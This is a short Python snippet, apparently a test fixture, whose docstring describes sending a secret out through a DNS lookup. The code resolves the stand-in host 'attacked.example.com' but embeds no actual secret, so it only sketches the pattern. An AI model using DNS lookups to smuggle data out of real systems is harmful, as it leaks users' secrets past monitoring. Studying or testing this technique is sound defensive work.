"""Sends a secret out in the name of a host to look up."""
import socket

got = None
try:
    got = socket.getaddrinfo("attacked.example.com", 80)
except OSError:
    pass
got
